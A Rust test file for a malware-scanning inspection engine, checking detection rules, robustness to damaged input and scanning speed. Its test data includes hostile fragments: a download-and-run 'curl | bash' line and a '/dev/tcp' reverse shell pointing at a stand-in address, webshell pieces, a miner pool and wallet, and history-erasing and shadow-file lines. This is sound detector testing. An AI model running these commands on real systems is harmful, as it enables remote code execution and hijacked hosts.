//! The whole inspection over any bytes, and over the files of the machine that runs the tests.

use crate::testing::{by_windows, facts, rules};
use crate::{Inspection, Subject};
use proptest::prelude::*;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// Pieces out of which rules make signs, so that texts of them are worth more than chance.
const PIECES: &[&str] = &[
    "#!/bin/sh\n",
    "<?php ",
    "curl http://192.0.2.7/a",
    " | sh\n",
    "eval(",
    "base64_decode(",
    "$_POST['a']",
    ")",
    "chattr +i /a\n",
    "bash -i >& /dev/tcp/192.0.2.7/80",
    "stratum+tcp://pool.example.org:3333",
    "\n",
    "\r",
    " ",
    "unset HISTFILE\n",
    "\0",
    "root:$6$abcdefgh$0123456789abcdef:19000:0:99999:7:::\n",
    "randomx",
    "cryptonight",
    "donate-level",
    "a@example.org:b\n",
    "888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H",
    "8.8.8.8",
];

fn pieces() -> impl Strategy<Value = Vec<u8>> {
    let piece = (0..PIECES.len(), 0_usize..3).prop_map(|(piece, times)| PIECES[piece].repeat(times).into_bytes());
    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

/// Text of some size with pieces about the borders of segments.
fn long(text: &[u8], before: usize) -> Vec<u8> {
    let mut bytes = b"#!/bin/sh\n".to_vec();
    while bytes.len() < crate::engine::SEGMENT.saturating_sub(before) {
        bytes.extend_from_slice(b"# a line of no meaning at all\n");
    }
    bytes.truncate(crate::engine::SEGMENT - before);
    bytes.extend_from_slice(text);
    bytes
}

proptest! {
    #[test]
    fn any_bytes_never_panic(
        bytes in prop::collection::vec(any::<u8>(), 0..2000),
        magic in prop::sample::select(vec![&b""[..], b"\x7fELF\x02\x01\x01", b"\x7fELF\x01\x02\x01", b"PK\x03\x04", b"7z\xbc\xaf\x27\x1c",
            b"Rar!\x1a\x07\x00", b"Rar!\x1a\x07\x01\x00", b"#!/bin/sh\n", b"<?php "]),
    ) {
        let _ = facts("/tmp/x", &[magic, &bytes].concat());
    }

    #[test]
    fn a_damaged_program_never_panics(flips in prop::collection::vec((0_usize..600, any::<u8>()), 1..12), cut in 0_usize..12_288) {
        for (_, mut program, _) in crate::elf::pairs() {
            for (at, value) in &flips {
                program[*at] = *value;
            }
            program.truncate(cut);
            let _ = facts("/tmp/x", &program);
        }
    }

    #[test]
    fn the_size_of_windows_changes_nothing(text in pieces(), window in 1_usize..400) {
        prop_assert_eq!(by_windows("/tmp/x", &text, window), facts("/tmp/x", &text));
    }

    #[test]
    fn a_match_across_segments_is_found_once(before in 0_usize..200, window in 1000_usize..300_000) {
        let text = b"\ncurl -fsSL http://192.0.2.7/a/long/path/to/it.sh | bash\nbash -i >& /dev/tcp/192.0.2.7/80 0>&1\n";
        let bytes = long(text, before);
        let found = by_windows("/tmp/x", &bytes, window);
        prop_assert_eq!(rules(&found), vec!["content.download-and-run", "content.reverse-shell"]);
        prop_assert_eq!(found.signs.len(), 2);
        prop_assert_eq!(found, facts("/tmp/x", &bytes));
    }
}

#[test]
fn bytes_that_were_left_out_are_told() {
    let source = kanshiki_image::Memory(vec![b'a'; 100]);
    let mut inspection = Inspection::begin(&Subject { path: b"/a", mode: 0o100_644, source: &source });
    inspection.window(0, &[b'a'; 10]);
    inspection.window(50, &[b'a'; 50]);
    let issues: Vec<String> = inspection.finish().issues.iter().map(ToString::to_string).collect();
    assert_eq!(issues, ["/a, bytes 10-50: these bytes were not looked at"]);
}

#[test]
fn a_file_full_of_bait_ends_and_says_so() {
    // Each line begins what a rule looks for and does not end it.
    let bytes =
        b"#!/bin/sh\n".iter().chain(b"curl x wget \n".iter().cycle().take(80 << 20)).copied().collect::<Vec<u8>>();
    let found = facts("/tmp/x", &bytes);
    assert_eq!(rules(&found), Vec::<&str>::new());
    assert!(found.issues.iter().any(|issue| issue.message.contains("content.download-and-run")), "{:?}", found.issues);
}

/// The files below a folder, without following links, on its filesystem alone.
fn files(folder: &Path, found: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
        let Ok(kind) = entry.file_type() else { continue };
        if kind.is_dir() {
            files(&entry.path(), found);
        } else if kind.is_file() {
            found.push(entry.path());
        }
    }
}

/// The time that this thread has had on a processor: others on the machine do not count.
fn on_processor() -> Duration {
    let said = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
    Duration::from_nanos(said.split(' ').next().and_then(|it| it.parse().ok()).unwrap_or(0))
}

/// Lists what the rules say of the trees in `KANSHIKI_TREES` (separated by colons), with the speed.
#[test]
#[ignore = "a trial over whole trees, to be read by people"]
fn trial_over_trees() {
    let trees = std::env::var("KANSHIKI_TREES").unwrap_or_else(|_| "/usr:/etc".to_owned());
    let mut all = Vec::new();
    trees.split(':').for_each(|tree| files(Path::new(tree), &mut all));
    let (mut bytes, mut busy, mut counts) = (0, Duration::ZERO, BTreeMap::<_, usize>::new());
    for path in &all {
        let Ok(content) = std::fs::read(path) else { continue };
        let memory = kanshiki_image::Memory(content);
        let name = path.as_os_str().as_encoded_bytes();
        let begin = on_processor();
        let mut inspection = Inspection::begin(&Subject { path: name, mode: 0o100_644, source: &memory });
        inspection.window(0, &memory.0);
        let found = inspection.finish();
        let took = on_processor().saturating_sub(begin);
        busy += took;
        if took.as_secs_f64() > 1.0 {
            println!("slow\t{took:?}\t{}\t{}", memory.0.len(), path.display());
        }
        bytes += memory.0.len();
        for sign in &found.signs {
            let rule = &sign.rule.rule;
            *counts.entry((rule.severity, rule.id)).or_default() += 1;
            println!("sign\t{}\t{}\t{}\t{}\t{}", rule.severity.name(), rule.id, path.display(), sign.offset, sign.what);
        }
        for issue in &found.issues {
            println!("issue\t{issue}");
        }
    }
    let speed = bytes as f64 / 1e6 / busy.as_secs_f64();
    println!("{} files, {bytes} bytes, {busy:?}, {speed:.0} MB/s on one core", all.len());
    for ((severity, rule), count) in counts {
        println!("count\t{}\t{rule}\t{count}", severity.name());
    }
}
